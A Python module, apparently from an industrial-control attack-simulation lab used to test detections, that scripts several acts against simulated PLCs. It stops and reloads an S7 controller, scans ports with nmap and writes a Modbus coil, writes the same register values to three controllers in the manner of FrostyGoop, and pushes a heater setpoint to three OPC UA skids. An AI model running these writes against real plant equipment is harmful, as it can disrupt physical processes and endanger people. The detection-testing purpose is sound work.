"""What several acts come to: an engineering story, a kill chain, a campaign.

Benign twin: eng's daily look at each controller, and mes, which writes to one line only, in the lead-in of this very capture.
"""

from __future__ import annotations

import asyncio
from collections.abc import Callable

from asyncua import ua
from pymodbus.client import ModbusTcpClient

from ..plan import machine
from ..plant import modbus_client, plc_filler, s7
from ..plant.modbus_server import PlantModbusServer, bits, device, identity, registers
from ..plant.ua_client import client
from ..plant.ua_names import SKID, node_id
from ..shell import run
from .base import Act, Attack, Text, text
from .beside import beside
from .s7_block import recipe_block, valve_function


def _engineering() -> None:
    """As STEP 7 does: look, stop, load, start."""
    station = s7.connect_native("plc-filler", s7.PG)
    station.get_cpu_info()
    s7.done(station.plc_stop())
    s7.done(station.download(bytearray(valve_function())))
    s7.done(station.download(bytearray(recipe_block(plc_filler.RECIPES))))
    s7.done(station.plc_hot_start())
    s7.close(station)


def _chain() -> None:
    run("nmap", "-n", "-Pn", "--disable-arp-ping", "-sT", "-T4", "--max-retries", "0", "-p", "1-40,502", machine("plc-water").ip, timeout=60)
    station = modbus_client.connect("plc-water")
    station.write_coil(5, True, device_id=1)
    station.close()


def _third_controller() -> None:
    async def serve() -> None:
        holding = registers((0, [0] * 20))
        server = PlantModbusServer([device(1, bits(16), bits(16), holding, registers((0, [0])))], identity(*["Third"] * 7))
        await server.serve_forever()

    asyncio.run(serve())


def _everywhere() -> None:
    """As FrostyGoop did: the same registers, the same values, one controller after the other."""
    with beside("office", _third_controller, settle=3):
        for name in ("plc-water", "plc-gateway", "office"):
            station = ModbusTcpClient(machine(name).ip, timeout=3, retries=0)
            station.connect()
            station.write_registers(1, [0, 0, 9999], device_id=1)
            station.close()


async def _skids() -> None:
    for server in ("ua-skid1", "ua-skid2", "ua-skid3"):
        async with client(machine("mes"), server, "mes") as session:
            value = ua.DataValue(ua.Variant(98.0, ua.VariantType.Double))
            await session.get_node(node_id(f"{SKID}.HeaterSetpoint")).write_attribute(ua.AttributeIds.Value, value)


def _act(detection: str, name: str, actor: str, server: str | None, what: Text, frames: str, tool: str, do: Callable[[], None]) -> Act:
    return Act(name, actor, server, what, tool, frames, do, detection=detection)


ATTACK = Attack(
    "stories",
    text("工程操作、攻击链和成片攻击", "An engineering story, a kill chain, campaigns"),
    (
        _act("COR-01", "engineering", "eng", "plc-filler", text("工程师站停机、下载两个块、再启动", "The engineering station stops the filler, loads two blocks and starts it again"), "tcp.port == 102", "snap7-native", _engineering),
        _act("COR-02", "chain", "hmi-press", "plc-water", text("先扫描端口，再写线圈", "Ports are scanned, then a coil is written"), "tcp", "nmap", _chain),
        _act("COR-03", "modbus", "intruder", None, text("向三台控制器写入相同的值", "The same values are written to three controllers"), "modbus.func_code == 16", "pymodbus", _everywhere),
        _act("COR-03", "skids", "mes", None, text("向三个清洗站写入相同的加热设定值", "The same heater set point is written to three skids"), "tcp.port == 4840", "asyncua", lambda: asyncio.run(_skids())),
    ),
    also=("NET-01", "NET-06", "NET-11", "NET-13", "MB-01", "MB-03", "MB-04", "MB-07", "MB-10", "S7-03", "S7-04", "S7-08", "S7-11", "S7-12", "S7-14", "UA-01", "UA-02", "UA-04", "UA-14", "COR-01", "COR-02"),
)
